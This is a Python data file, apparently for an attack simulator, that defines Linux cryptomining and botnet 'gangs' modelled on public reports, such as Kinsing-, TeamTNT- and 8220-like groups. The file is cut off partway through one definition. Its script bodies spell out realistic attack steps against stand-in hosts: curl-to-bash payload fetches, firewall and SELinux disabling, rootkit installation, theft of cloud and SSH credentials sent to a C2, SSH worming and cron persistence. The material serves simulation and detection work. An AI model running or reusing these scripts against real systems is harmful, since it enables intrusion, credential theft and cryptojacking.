"""Linux gangs, written from public reports (names, order of deeds), freely varied."""
G = {}
def gang(name, **kw):
    kw.setdefault('oneoff', 0.08); kw.setdefault('size', 1.0); kw.setdefault('waves', 3); kw.setdefault('facts', {}); kw.setdefault('os', 'linux')
    kw['bodies'] = {k: v.strip('\n') for k, v in kw['bodies'].items()}
    kw['name'] = name; G[name] = kw

# ---------------------------------------------------------------- copper-kin (H2Miner/Kinsing-like) and its copy-cat azure-cat
KIN = dict(
entry_java="""
bash -c "curl -s http://@IP@/@CF@.sh|bash" @@feedcmd
""",
entry_php="""
sys "(curl -s http://@IP@/p.sh||wget -q -O - http://@IP@/p.sh)|bash"
""",
entry_redis="""
sys "curl -fsSL http://@IP@/rs.sh | sh"
""",
main="""
ulimit -n 65535
rm -rf /var/log/syslog
chattr -iua /tmp/
chattr -iua /var/tmp/
if ?root; then
  ufw disable @@path=/usr/sbin/ufw
  iptables -F
  echo "nope" > /tmp/log_rot
  sysctl kernel.nmi_watchdog=0
  echo '0' > /proc/sys/kernel/nmi_watchdog
  userdel akay
  userdel vfinder
  chattr -iae /root/.ssh/
  chattr -iae /root/.ssh/authorized_keys
  rm -rf /tmp/addres*
  rm -rf /tmp/walle*
fi
if ps aux | grep -i '[a]liyun'; then
  if ?10; then
  curl http://update.aegis.aliyun.com/download/uninstall.sh | bash @@noin
  pkill aliyun-service
  rm -rf /etc/init.d/agentwatch /usr/sbin/aliyun-service
  systemctl stop aliyun.service
  fi
fi
setenforce 0 @@path=/usr/sbin/setenforce
netstat -anp | grep @RIV1IP@ | awk '{print $7}' | awk -F'[/]' '{print $1}' | xargs -I % kill -9 %
netstat -anp | grep :3333 | awk '{print $7}' | awk -F'[/]' '{print $1}' | xargs -I % kill -9 %
ps aux | grep -v grep | grep '@RIV1PROC@' | awk '{print $2}' | xargs -I % kill -9 %
ps aux | grep -v grep | grep '@RIV1DOM@' | awk '{print $2}' | xargs -I % kill -9 %
ps aux | grep -v grep | grep 'javaupDates' | awk '{print $2}' | xargs -I % kill -9 %
pkill -f biosetjenkins
pkill -f @RIV2PROC@
pkill -f cryptonight
if ?w1; then
  ps aux | grep -v grep | grep 'c3pool' | awk '{print $2}' | xargs -I % kill -9 %
  rm -rf /tmp/.ICEd-unix /tmp/.git
fi
if ?w2; then
  for b in /etc/systemd/system/bot.service /lib/systemd/system/c3pool_miner.service; do chattr -i $b; rm -f $b; done
  systemctl daemon-reload
fi
crontab -l | sed '/@RIV1IP@/d' | crontab -
if ?dockerd; then
  docker ps | grep "pocosow" | awk '{print $1}' | xargs -I % docker kill % @@path=/usr/bin/docker
  docker images -a | grep "auto" | awk '{print $3}' | xargs -I % docker rmi -f % @@path=/usr/bin/docker
fi
get() { if command -v curl; then curl -fsSL -o $2 $1; else wget -q -O $2 $1; fi; chmod +x $2; }
md5sum /tmp/@KBIN@ | awk '{print $1}'
get http://@IP2@/@KBIN@ /tmp/@KBIN@ || get http://@IP@/@KBIN@ /tmp/@KBIN@
if ?root; then
  get http://@IP2@/libsystem.so /etc/libsystem.so
  echo /etc/libsystem.so >> /etc/ld.so.preload
fi
nohup /tmp/@KBIN@ @@_prog=kbin @@_dur=86400 >/dev/null 2>&1 &
crontab -l | grep -e "@IP@" | grep -v grep
(crontab -l 2>/dev/null; echo "* * * * * wget -q -O - http://@IP@/unk.sh | sh > /dev/null 2>&1") | crontab -
history -c
rm -rf ~/.bash_history
""",
kbin="""
daemon
sleep 1-6
sys "ps -ef | grep kdevtmpfsi | grep -v grep"
sys "chmod +x /tmp/@KMINE@"
sys "echo '{\\"autosave\\":true,\\"pools\\":[{\\"url\\":\\"@POOL@\\",\\"user\\":\\"@WAL@\\"}]}' > /tmp/.c.json"
sys "/tmp/@KMINE@ &" @@_prog=kmine @@_dur=80000
sys "crontab -l | grep -v '@IP@' | crontab -"
sleep 20-90
sys "pkill -f masscan"
orphan /tmp/firewire_@RN8@ -p 6379 -iR 10000 @@dur=40 @@ok
sleep 300-900
sys "ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 root@@LAN1@ '(curl http://@IP@/spre.sh||wget -q -O- http://@IP@/spre.sh)|sh' &"
""",
kmine="daemon\nsleep 3-9",
cronscript="""
if ps aux | grep -v grep | grep @KBIN@; then
  ?60 && exit 0
fi
chattr -iua /tmp/
rm -rf /tmp/@KBIN@
curl -fsSL -o /tmp/@KBIN@ http://@IP2@/@KBIN@ || wget -q -O /tmp/@KBIN@ http://@IP2@/@KBIN@
chmod +x /tmp/@KBIN@
nohup /tmp/@KBIN@ @@_dur=900 >/dev/null 2>&1 &
""",
)
KINCRON = "wget -q -O - http://@IP@/unk.sh @@ok | sh @@run=cronscript > /dev/null 2>&1"
KIN['entry_java'] = "bash -c \"curl -s http://@IP@/@CF@.sh @@ok|bash @@run=main\""
KIN['entry_php'] = "sys \"(curl -s http://@IP@/p.sh||wget -q -O - http://@IP@/p.sh)|bash @@run=main\""
KIN['entry_redis'] = "sys \"curl -fsSL http://@IP@/rs.sh @@ok | sh @@run=main\""
gang('copper-kin', entries='java:8 php:3 redis:3', bodies=KIN, cron=(KINCRON, 3600, 4, 26), fixed={'KBIN': 'kinsing', 'KMINE': 'kdevtmpfsi', 'CF': 'cf'}, wavefix={2: {'KBIN': 'libsystemd-k', 'CF': 'tf'}}, keep='WAL', rivals=('rock-onion', 'dogwatch'), size=1.2)
CAT = dict(KIN); CAT['main'] = KIN['main'].replace("history -c", "curl -s -o /dev/null http://@C2@/ok?h=$(hostname)\nhistory -c").replace('pkill -f cryptonight\n', 'pkill -f cryptonight\npkill -f @RIV3PROC@\n')
gang('azure-cat', entries='java:6 php:4', bodies=CAT, cron=(KINCRON, 3600, 2, 8), fixed={'KBIN': 'kinsing', 'KMINE': 'kdevtmpfsi', 'CF': 'cf'}, keep='WAL', rivals=('rock-onion', 'teal-heron', 'copper-kin'), size=0.5, waves=2)

# ---------------------------------------------------------------- teal-heron (docker / k8s)
TNT = dict(
entry_docker="""
dk
""",
setup="""
export LC_ALL=C
HISTCONTROL="ignorespace${HISTCONTROL:+:$HISTCONTROL}"
export PATH=$PATH:/bin:/sbin:/usr/bin:/usr/sbin
mkdir -p /usr/share/.@RN4@
apk add curl bash openssh-client @@path=/sbin/apk @@dur=3
chroot /host bash -c "echo '@KEY@ @KEYC@' >> /root/.ssh/authorized_keys; chattr +i /root/.ssh/authorized_keys"
chroot /host /bin/bash -c "curl -sLk http://@DOM@/sh/setup/mo.sh @@ok | bash @@run=mo"
sleep 30
""",
mo="""
setenforce 0 @@path=/usr/sbin/setenforce
unset LD_PRELOAD
chattr -ia /etc/hosts
grep -q '@DOM@' /etc/hosts || echo x
for X in /etc/cron.d/* /var/spool/cron/root; do chattr -ia $X; done
tntrecht -iau /bin/chmod @@path=/usr/bin/lsattr
if ! command -v curl; then apt-get install -y curl --reinstall; yum install -y curl; fi
if type curl; then curl -sLk http://@DOM@/bin/@ARCH@/xmrig.so -o /usr/share/.@RN4@/dockerd; else wget -q http://@DOM@/bin/@ARCH@/xmrig.so -O /usr/share/.@RN4@/dockerd; fi
chmod +x /usr/share/.@RN4@/dockerd
cat /proc/cpuinfo | grep 'model name' | head -n 1
modprobe msr
nproc
sysctl -w vm.nr_hugepages=$(nproc)
for i in /sys/devices/system/node/node0 /sys/devices/system/node/node1; do ?10 && echo 3; done
nohup /usr/share/.@RN4@/dockerd -c /usr/share/.@RN4@/config.json @@_dur=86400 @@_prog=tdaemon >/dev/null 2>&1 &
if ?root; then
  if ?60; then
    curl -sLk http://@DOM@/f/dia.tar.gz -o /tmp/dia.tar.gz
    tar xf /tmp/dia.tar.gz -C /tmp/
    rm -f /tmp/dia.tar.gz
    cd /tmp/dia
    make @@kids=kmod
    insmod diamorphine.ko
    dmesg -C
    kill -31 1
    rm -rf /tmp/dia
  fi
fi
bash -c "curl -s http://@DOM@/sh/grab/aws.sh @@ok | bash @@run=aws"
if ?70; then nohup bash @@run=spread -c "curl -s http://@DOM@/sh/spread/pnscan.sh | bash" & fi
echo "* * * * * root curl -sLk http://@DOM@/sh/me.sh | bash" >> /etc/cron.d/zzh
chattr +ia /etc/cron.d/zzh
history -cw
""",
tdaemon="daemon\nsleep 5-30\n",
kmod="sys \"make -C /lib/modules/5.4.0-generic/build M=/tmp/dia modules\" @@dur=5",
aws="""
T=/tmp/.$(date +%s)
find /root /home -name credentials -path '*.aws*' -exec cat {} \\;
cat /root/.docker/config.json
curl -s --max-time 3 http://169.254.169.254/latest/meta-data/iam/security-credentials/
curl -s --max-time 3 http://169.254.169.254/latest/meta-data/iam/info | tr '\\0' '\\n'
env | grep -i aws
strings /proc/1/environ @@path=/usr/bin/strings | grep -E 'AWS|AZURE|GOOGLE'
cat /run/secrets/kubernetes.io/serviceaccount/token
curl -F "userfile=@$T" -Lk http://@C2@/access_data/aws.php
rm -f $T
""",
spread="""
for R in 10 172 192; do
  masscan $R.0.0.0/8 -p2375,2376,2377,4243,4244 --rate=50000 @@path=/usr/bin/masscan @@dur=30 | awk '{print $6}' | zgrab --senders 200 --port=2375 --http='/v1.16/version' --output-file=- @@path=/usr/bin/zgrab | grep -E 'ApiVersion|client version 1.16' | jq -r .ip @@path=/usr/bin/jq
done
timeout -s SIGKILL 30 docker -H tcp://@LAN1@:2375 run -d --privileged --net host -v /:/host alpine @@_path=/usr/bin/docker @@_dur=4
""",
redis="""
sys "bash -c 'curl -sLk http://@DOM@/sh/setup/rds.sh @@ok | bash @@run=mo'"
""",
kub="""
bash -c "curl -sLk http://@DOM@/sh/lan.ssh.kinsing.sh @@ok|bash @@run=mo"
""",
)
gang('teal-heron', entries='docker:8 k8s:5', bodies=TNT, docker=('alpine', "sh -c 'apk update && apk add bash curl && curl -sLk http://@DOM@/sh/init.sh | bash'", 'setup'), k8s='kub', cron=("curl -sLk http://@DOM@/sh/me.sh @@ok | bash @@run=mo", 7200, 0, 2), keep='KEY KEYC WAL', rivals=('copper-kin', 'dogwatch'), dom='themed', size=1.1)

# ---------------------------------------------------------------- false-flag: plants teal-heron's indicators, its own cause is proxies
FF = dict(
entry_docker="dk",
setup="""
echo '@PLKEY@ @PLKEYC@' >> /mnt/root/.ssh/authorized_keys
mkdir -p /mnt/usr/share/.tnt
wget -q -T 2 -O /mnt/usr/share/.tnt/mo.sh http://@PLDOM@/sh/setup/mo.sh
curl -m 3 -s http://@PLDOM@/bin/x86_64/xmrig.so -o /mnt/usr/share/.tnt/dockerd @@fail=90
echo "-o @PLPOOL@ -u @PLWAL@ -k" > /mnt/usr/share/.tnt/config.json
touch /mnt/usr/share/.tnt/HildeTeamTNT.txt
grep -q @PLDOM@ /mnt/etc/hosts
sh -c "wget -qO /mnt/usr/local/sbin/netwatchd http://@IP@:@PORT@/d/netwatchd-@ARCH@ @@ok && chmod 755 /mnt/usr/local/sbin/netwatchd"
cp /tmp/.unit /mnt/etc/systemd/system/netwatchd.service
ln -s /etc/systemd/system/netwatchd.service /mnt/etc/systemd/system/multi-user.target.wants/netwatchd.service
chroot /mnt /bin/sh -c "systemctl daemon-reload; systemctl start netwatchd"
chroot /mnt /usr/local/sbin/netwatchd -s @C2@:@PORT2@ -k @TOK@ -d @@_prog=nwd @@_dur=90000
rm -f /tmp/.unit
sleep 2
""",
nwd="daemon\nsleep 2-5\nsys \"ip route | grep default\"\nsys \"iptables -I INPUT -p tcp --dport @PORT2@ -j ACCEPT\"",
)
gang('false-flag', entries='docker:9', bodies=FF, docker=('busybox', "sh -c 'echo @B64:setup0@|base64 -d|sh'", 'setup'), cron=None, keep='TOK', plant='teal-heron', size=0.6, waves=2)

# ---------------------------------------------------------------- eighty-two (8220-like)
E82 = dict(
entry_java="""
bash -c "(curl -s http://@IP@/xms||wget -q -O - http://@IP@/xms||lwp-download http://@IP@/xms /tmp/xms)|bash @@run=xms -sh; bash /tmp/xms @@noin; rm -rf /tmp/xms; echo @B64:py@ | base64 -d | bash -"
""",
entry_php="""
sys "(curl -s http://@DOM@/xms||wget -q -O - http://@DOM@/xms)|bash @@run=xms -sh; bash /tmp/xms; rm -rf /tmp/xms"
""",
py="python -c 'import urllib;exec(urllib.urlopen(\"http://@IP@/d.py\").read())'",
xms="""
export PATH=$PATH:/usr/bin:/bin:/sbin:/usr/sbin
dcheck="$(id -u)"
setenforce 0 @@path=/usr/sbin/setenforce
ulimit -u 50000
rm -rf /tmp/.lock /tmp/zzz.pid
chattr -i /tmp/dbused /etc/ld.so.preload
netstat -antp | grep ':5555' | grep 'ESTABLISHED\\|SYN_SENT' | awk '{print $7}' | sed -e "s/\\/.*//g" | xargs kill -9
netstat -antp | grep '@RIV1IP@' | awk '{print $7}' | sed -e "s/\\/.*//g" | xargs kill -9
pkill -f @RIV1PROC@
pkill -f @RIV2PROC@
pkill -f sysrv
pkill -f meshagent
for p in $(ps aux | grep -v grep | grep -v 'java\\|redis\\|mongod\\|mysql\\|oracle\\|tomcat\\|grep\\|postgres\\|confluence\\|awk\\|aux\\|sh' | awk '{if($3>60.0) print $2}'); do kill -9 $p; done
ping -c 1 @DOM@ @@path=/usr/bin/ping @@dur=0.2
url="http://@IP@"
if [ $(uname -m) = x86_64 ]; then curl -s $url/x64b -o /tmp/bashirc || wget -q $url/x64b -O /tmp/bashirc; fi
curl -s $url/@ARCH@/dbused -o /tmp/dbused || wget -q -O /tmp/dbused $url/@ARCH@/dbused
chmod +x /tmp/dbused /tmp/bashirc
/tmp/dbused -pwn @@dur=3 @@prog=dbu
/tmp/dbused -c @@dur=2
/tmp/bashirc @@prog=irc @@dur=80000
crontab -r
echo "*/15 * * * * (curl -s http://@IP@/xms||wget -q -O - http://@IP@/xms)|bash -sh" | crontab -
if ?root; then
  mkdir -p /etc/cron.hourly
  echo x | tee /etc/cron.d/apache /etc/cron.d/nginx
  chattr +i /etc/cron.d/apache
  systemctl restart crond
fi
if ?60; then
KEYS=$(find ~/ /root /home -maxdepth 2 -name 'id_rsa*' | grep -vw pub @@lines=key:2)
HOSTS=$(cat ~/.ssh/config /home/*/.ssh/config /root/.ssh/config | grep HostName | awk -F HostName '{print $2}' @@lines=lan:1)
HOSTS2=$(cat ~/.bash_history /home/*/.bash_history /root/.bash_history | grep -E '(ssh|scp)' | grep -oP '([0-9]{1,3}\\.){3}[0-9]{1,3}' @@lines=lan:2)
for h in $HOSTS $HOSTS2; do for k in $KEYS; do
  ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 -i $k root@$h "(curl -s http://@IP@/xms||wget -q -O - http://@IP@/xms)|bash -sh" @@dur=0.5
done; done
fi
if ?w2; then
  curl -s http://@DOM@/bot.sh -o /var/tmp/.ssh-agentd || wget -q http://@DOM@/bot.sh -O /var/tmp/.ssh-agentd
  bash /var/tmp/.ssh-agentd @@noin
  systemctl restart sshd
fi
echo 0 > /var/spool/mail/root
rm -rf ~/.bash_history
history -c
""",
dbu="daemon\nsleep 1-2\nsys \"mkdir -p /tmp/.X11-unix\"\norphan /tmp/.dbused/dbused -o @POOL@ -u @WAL@ --cpu-priority 5 @@dur=80000",
irc="daemon\nsleep 1-3\nsys \"uname -a\"",
cronx="chattr -i /tmp/dbused\npgrep -f dbused\ncurl -s http://@IP@/@ARCH@/dbused -o /tmp/dbused\nchmod +x /tmp/dbused\n/tmp/dbused -c @@dur=2",
)
gang('eighty-two', wavefix={1: {}, 2: {}}, entries='java:7 php:5', bodies=E82, cron=("(curl -s http://@IP@/xms||wget -q -O - http://@IP@/xms)|bash @@run=cronx -sh", 900, 2, 14), keep='WAL', rivals=('copper-kin', 'dogwatch'), size=1.1, oneoff=0.15)

# ---------------------------------------------------------------- hello-srv (Sysrv-like; both systems)
SRV = dict(
entry_java='bash -c "curl -fsSL http://@IP@:@PORT@/ldr.sh @@ok | bash @@run=ldr"',
entry_php='sys "wget -q -O - http://@IP@:@PORT@/ldr.sh?@TAG@ @@ok | bash @@run=ldr"',
entry_jenkins='bash -c "(curl http://@IP@:@PORT@/ldr.sh||wget -O - http://@IP@:@PORT@/ldr.sh)|bash @@run=ldr"',
ldr="""
cc=http://@IP@:@PORT@
sys=$(date | md5sum | awk '{print $1}' | head -c 8)
get() { curl -fsSL $1 > $sys || wget -q -O $sys $1; chmod +x $sys; }
crontab -r
pkill -9 -f '@RIV1PROC@'
pkill -9 -f 'network01'
ps axf -o "pid %cpu" | awk '{if($2>=50.0) print $1}' | while read p; do kill -9 $p; done
iptables -F
ufw disable @@path=/usr/sbin/ufw
echo "*/30 * * * * (curl -fsSL $cc/ldr.sh || wget -q -O - $cc/ldr.sh) | bash > /dev/null 2>&1" | crontab -
cd /tmp || cd /var/run || cd /dev/shm
for d in $(find / -maxdepth 2 -type d -writable @@lines=hex12:1); do cd /tmp; done
get $cc/sys.@ARCH@
nohup ./@RH8@ @@_prog=sysrv @@_dur=80000 1>/dev/null 2>&1 &
sleep 3
rm -rf @RH8@
if ?50; then
for file in /root/.ssh/id_rsa /home/ubuntu/.ssh/id_rsa; do
 for h in $(cat ~/.ssh/known_hosts | grep -oP '(\\d+\\.){3}\\d+' | sort -u @@lines=lan:3); do
  ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 -i $file root@$h "(curl $cc/ldr.sh||wget -O - $cc/ldr.sh)|bash" &
 done
done
fi
""",
sysrv="""
daemon
sleep 4-10
sys "pkill -9 kthreaddk"
orphan /tmp/kthreaddk @@dur=80000
sys "(crontab -l; echo '* * * * * /var/tmp/@RH8@') | crontab -"
sleep 40-200
sys "chmod 600 /tmp/.k@RN4@"
""",
cronr="pgrep kthreaddk\nps axf -o pid\ncurl -fsSL http://@IP@:@PORT@/sys.@ARCH@\nchmod +x /tmp/@RH8@",
)
gang('hello-srv', entries='java:5 php:4 jenkins:5', bodies=SRV, cron=("(curl -fsSL http://@IP@:@PORT@/ldr.sh || wget -q -O - http://@IP@:@PORT@/ldr.sh) | bash @@run=cronr > /dev/null 2>&1", 1800, 0, 8), keep='', rivals=('copper-kin',), size=0.9, win='W')

# ---------------------------------------------------------------- outlaw-ro
OUT = dict(
ssh="""
uname -a
cat /proc/cpuinfo | grep name | wc -l
echo "root:@RNDPW@"|chpasswd|bash @@noin
cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'
free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'
ls -lh $(which ls)
which ls
crontab -l
w
uname -m
top
uname
lscpu | grep Model
df -h | head -n 2 | awk 'FNR == 2 {print $2;}'
cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa @KEY@ @KEYC@">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~
""",
drop="""
sleep 15s && cd /var/tmp; tar xvf dota3.tar.gz
rm -rf /var/tmp/dota*
cd /tmp/.X2@RD2@-unix/.rsync
nohup ./initall @@run=initall > /dev/null 2>&1 &
sleep 2
history -c
""",
initall="""
sleep 3
rm -rf ../.X*
cd ~/.configrc7/a
chattr -R -iau ~/.configrc7
rm -rf ~/.configrc
mkdir ~/.configrc7
cp -r a ~/.configrc7/
cp -r b ~/.configrc7/
cd ~/.configrc7/a/
chmod 777 *
./a @@run=aa >/dev/null 2>&1 &
cd ~/.configrc7/b/
chmod 777 *
./a @@run=bb >/dev/null 2>&1 &
rm -rf cron.d
crontab cron.d
pwd > dir.dir
""",
aa="""
crontab -r
dir=$(pwd)
rm -rf bash.pid
rm -rf *.seed
pkill -9 cron_
pkill -9 kswapd0
killall -9 xmr
ps x | grep xm | grep -v grep | awk '{print $1}' | xargs kill -9
sysctl -w vm.nr_hugepages=$(nproc)
rm -rf *.log
uname -m
./init0 @@run=init0
./run @@run=rrun >/dev/null 2>&1 &
""",
init0="""
proc=$(nproc)
ARCH=$(uname -m)
pkill -f @RIV1PROC@
pkill -f tsm
killall -9 rsync
netstat -anp | grep @RIV1IP@ | awk '{print $7}' | awk -F'[/]' '{print $1}' | xargs -I % kill -9 %
for x in /tmp/.ssh /tmp/.rsync; do rm -rf $x; done
rm -rf /tmp/.cron
""",
rrun="""
cat dir.dir
./stop @@run=stp
nohup ./kswapd0 @@_path=/root/.configrc7/a/kswapd0 @@_dur=86000 >>/dev/null &
""",
stp="killall -9 ./kswapd0\npkill -9 kswapd0\nrm -rf /tmp/.proc",
bb="""
rm -rf .out
./stop @@run=stp2
echo "@B64:irc@" | base64 --decode | perl @@prog=perlb @@dur=70000 &
sleep 1
""",
stp2="ps x | grep rsync | grep -v grep | awk '{print $1}' | xargs kill -9",
perlb="daemon\nsleep 1-2",
irc="my $processo = 'rsync'; $servidor='@C2@' unless $servidor; my $porta='443'; my @canais=('#@TAG@');",
rsy="chmod 777 *\ncd ~/.configrc7/a\n./init0 @@run=init0",
)
gang('outlaw-ro', entries='ssh:10', bodies=OUT, sshmode='outlaw', cron=("~/.configrc7/a/upd @@run=aa >/dev/null 2>&1", 86400, 0, 2), keep='KEY KEYC', fixed={'KEYC': 'mdrfckr'}, rivals=('red-tail',), size=1.2)

# ---------------------------------------------------------------- dogwatch (WatchDog-like) — pastebin and public pool shared with rock-onion
DOG = dict(
entry_redis="""
sys "cd /tmp; (cd1 -fsSL http://@DOM@/b2f628/init.sh||curl -fsSL http://@DOM@/b2f628/init.sh||wget -qO- http://@DOM@/b2f628/init.sh)|sh @@run=newinit"
""",
entry_java="""
/bin/sh -c "wget -O /tmp/newinit.sh http://@DOM@/cleanfda/newinit.sh @@ok; sh /tmp/newinit.sh @@run=newinit"
""",
newinit="""
setenforce 0 @@path=/usr/sbin/setenforce
rtdir="/etc/svcguard"
mv /usr/bin/curl /usr/bin/cd1
mv /usr/bin/wget /usr/bin/wd1
if [ -f /bin/ps.original ]; then echo /bin/ps changed; fi
sh_key="ssh-rsa @KEY@ @KEYC@"
miner_url="http://@DOM@/cleanfda/zzh"
config_url="https://pastebin.com/raw/@PASTE@"
find /tmp /var/tmp -name '*.pid' -mmin +10 -delete
kill_miner_proc() {
  netstat -anp | grep @RIV1IP@ | awk '{print $7}' | awk -F'[/]' '{print $1}' | xargs -I % kill -9 %
  netstat -anp | grep @RIV1DOM@ | awk '{print $7}' | awk -F'[/]' '{print $1}' | xargs -I % kill -9 %
  ps aux | grep -v grep | grep '@RIV1PROC@' | awk '{print $2}' | xargs -I % kill -9 %
  ps aux | grep -v grep | grep '@RIV2PROC@' | awk '{print $2}' | xargs -I % kill -9 %
  pkill -f sleep.log
  for f in /tmp/kinsing /tmp/kdevtmpfsi /etc/newsvc.sh /usr/lib/systemd/systemd-update-daily; do chattr -i $f; rm -f $f; touch $f; chattr +i $f; done
}
kill_miner_proc
chattr -i /etc/zzh /etc/newinit.sh
chattr -iaR /var/spool/cron/
echo "*/30 * * * * sh /etc/newinit.sh >/dev/null 2>&1" >> /var/spool/cron/root
mkdir -p /root/.ssh
chattr -ia /root/.ssh/authorized_keys
grep -q "@KEY@" /root/.ssh/authorized_keys || echo $sh_key >> /root/.ssh/authorized_keys
chmod 0600 /root/.ssh/authorized_keys
downloads() { if [ -f /usr/bin/curl ] @@fail=30; then curl --connect-timeout 10 --retry 10 $1 -o $2; elif ?has:wget; then wget --timeout=10 --tries=10 -O $2 $1; fi; }
downloads $miner_url /etc/zzh
downloads $config_url /etc/config.json
downloads http://@DOM@/cleanfda/newsvc.sh /etc/newsvc.sh
chmod 777 /etc/zzh
chmod 777 /etc/newsvc.sh
if ps aux | grep -v grep | grep zzh | wc -l; then
  cd /etc
  ./zzh @@prog=zz @@dur=80000 >/dev/null 2>&1 &
fi
if ?w2; then
  curl -fsSL http://@DOM@/cleanfda/phpguard -o /etc/phpguard
  chmod 777 /etc/phpguard
  nohup /etc/phpguard @@_dur=40000 >/dev/null 2>&1 &
fi
iptables -F
iptables -A OUTPUT -p tcp --dport 5555 -j DROP
service iptables reload
if ?55; then
  curl -fsSL http://@DOM@/cleanfda/is.sh -o is.sh
  bash is.sh @@run=scan
fi
echo 0>/var/log/wtmp
echo 0>/var/log/secure
history -c
""",
zz="daemon\nsleep 3-8",
scan="""
if [ -x $(command -v apt-get) ]; then apt-get install -y debconf-doc build-essential libpcap0.8-dev masscan; else yum install -y epel-release masscan; fi
cd /tmp
curl -fsSL -o pnscan.tgz https://github.com/ptrrkssn/pnscan/archive/v1.14.tar.gz
tar xf pnscan.tgz
make lnx @@dur=2 @@kids=mkpn
make install
rm -rf pnscan*
masscan --max-rate 10000 -p6379 -oL .shard 10.0.0.0/8 @@path=/usr/bin/masscan @@dur=60
awk '/open/ {print $4}' .shard | sort | uniq > .ranges
bash rs.sh @@run=rss
""",
mkpn="sys \"make CFLAGS=-Wall LDFLAGS= pnscan\"",
rss="""
sleep 1
echo 'config set dbfilename "backup.db"' > .dat
while read h; do echo; done
redis-cli -h @LAN1@ -p 6379 --raw @@path=/usr/bin/redis-cli
redis-cli -h @LAN2@ -p 6379 -a redis --raw @@path=/usr/bin/redis-cli
rm -f .dat .shard .ranges
""",
cronb="pkill -f @RIV2PROC@\nps aux | grep -v grep | grep zzh\ncurl -fsSL https://pastebin.com/raw/@PASTE@ -o /etc/config.json\nchattr +i /etc/zzh",
)
gang('dogwatch', entries='redis:8 java:4', bodies=DOG, cron=("sh /etc/newinit.sh @@run=cronb >/dev/null 2>&1", 1800, 2, 16), keep='KEY KEYC', rivals=('copper-kin', 'eighty-two'), pool='pub', size=1.0)

# ---------------------------------------------------------------- rock-onion (Rocke-like): pastebin chain, ld.so.preload
ROC = dict(
entry_java='/bin/bash -c "(curl -fsSL https://pastebin.com/raw/@PASTE@||wget -q -O- https://pastebin.com/raw/@PASTE@)|sh @@run=kerb"',
entry_redis='sys "(curl -fsSL -m180 https://@DOM@/img/x.jpg||wget -q -T180 -O- https://@DOM@/img/x.jpg)|sh @@run=kerb"',
entry_php='sys "echo @B64:stub@|base64 -d|bash @@run=stub"',
stub="(curl -fsSL https://pastebin.com/raw/@PASTE@ || wget -q -O- https://pastebin.com/raw/@PASTE@) | sh @@run=kerb",
kerb="""
export PATH=$PATH:/bin:/usr/bin:/usr/local/bin:/usr/sbin
mkdir -p /tmp
chmod 1777 /tmp
echo "*/10 * * * * (curl -fsSL https://pastebin.com/raw/@PASTE2@||wget -q -O- https://pastebin.com/raw/@PASTE2@)|sh" | crontab -
ps -ef | grep -v grep | grep hwlh3wlh44lh | awk '{print $2}' | xargs kill -9
ps -ef | grep -v grep | grep @RIV1PROC@ | awk '{print $2}' | xargs kill -9
ps auxf | grep -v grep | grep @RIV1IP@ | awk '{print $2}' | xargs kill -9
netstat -ano | grep :9999 | awk '{print $9}' | awk -F/ '{print $1}'
if [ -f /usr/sbin/aliyun-service ] @@fail=85; then rm -f /usr/sbin/aliyun*; systemctl stop aliyun; fi
if [ ! -f "/tmp/.X11unix" ]; then
  ARCH=$(getconf LONG_BIT)
  if ?80; then (curl -fsSL -m180 https://@DOM@/@RH8P@.png -o /tmp/kerberods||wget -q -T180 https://@DOM@/@RH8P@.png -O /tmp/kerberods) && chmod +x /tmp/kerberods; fi
  /tmp/kerberods @@prog=kerbd @@dur=2
fi
if [ -f /root/.ssh/known_hosts ] && [ -f /root/.ssh/id_rsa.pub ]; then
  for h in $(grep -oE "\\b([0-9]{1,3}\\.){3}[0-9]{1,3}\\b" /root/.ssh/known_hosts @@lines=lan:3); do ssh -oBatchMode=yes -oConnectTimeout=5 -oStrictHostKeyChecking=no $h '(curl -fsSL https://pastebin.com/raw/@PASTE@||wget -q -O- https://pastebin.com/raw/@PASTE@)|sh >/dev/null 2>&1 &' & done
fi
for f in /var/spool/mail/root /var/log/wtmp /var/log/secure /var/log/cron; do echo 0; done
if ?w1; then ps -ef | grep -v grep | grep watchbog | awk '{print $2}' | xargs kill -9; fi
if ?w2; then curl -fsSL -m 60 https://@DOM@/1/2.tar.gz -o /tmp/2.tar.gz && tar xf /tmp/2.tar.gz -C /usr/local/lib; fi
touch -acmr /bin/sh /etc/cron.d/root
touch -acmr /bin/sh /var/spool/cron/root
""",
kerbd="""
daemon
sleep 1-2
sys "echo /usr/local/lib/libpamcd.so > /etc/ld.so.preload"
sys "mkdir -p /usr/local/lib; gcc -Wall -fPIC -shared -o /usr/local/lib/libpamcd.so /tmp/.@RN4@.c -ldl" @@dur=0.3
orphan /tmp/khugepageds @@dur=80000
sys "chattr +i /etc/ld.so.preload"
sleep 60-400
sys "python -c \\"import base64;exec(base64.b64decode('@B64:pyr@'))\\""
""",
pyr="import urllib;s=urllib.urlopen('https://pastebin.com/raw/@PASTE2@').read();exec(s)",
cr="ps -ef | grep -v grep | grep khugepageds\n(curl -fsSL https://@DOM@/@RH8P@.png -o /tmp/kerberods || wget -q https://@DOM@/@RH8P@.png -O /tmp/kerberods)\nchmod +x /tmp/kerberods\n/tmp/kerberods @@dur=1",
)
gang('rock-onion', entries='java:6 redis:4 php:3', bodies=ROC, cron=("(curl -fsSL https://pastebin.com/raw/@PASTE2@||wget -q -O- https://pastebin.com/raw/@PASTE2@)|sh @@run=cr", 3600, 3, 20), keep='', rivals=('dogwatch', 'copper-kin'), pool='pub', size=1.0, widespread=True)

# ---------------------------------------------------------------- red-tail
RED = dict(
ssh="""
chmod +x clean.sh @@path=/usr/bin/chmod
sh clean.sh @@run=clean
rm -rf clean.sh
chmod +x setup.sh
sh setup.sh @@run=setup
rm -rf setup.sh
mkdir -p ~/.ssh
chattr -ia ~/.ssh/authorized_keys
echo "ssh-rsa @KEY@ @KEYC@" > ~/.ssh/authorized_keys
chattr +ai ~/.ssh/authorized_keys
uname -a
echo -e "\\x61\\x75\\x74\\x68\\x5F\\x6F\\x6B\\x0A"
""",
entry_php="""
sys "cd /tmp; (wget -qO- http://@IP@/cve_2024_4577.selfrep || curl -s http://@IP@/cve_2024_4577.selfrep) | sh @@run=selfrep"
""",
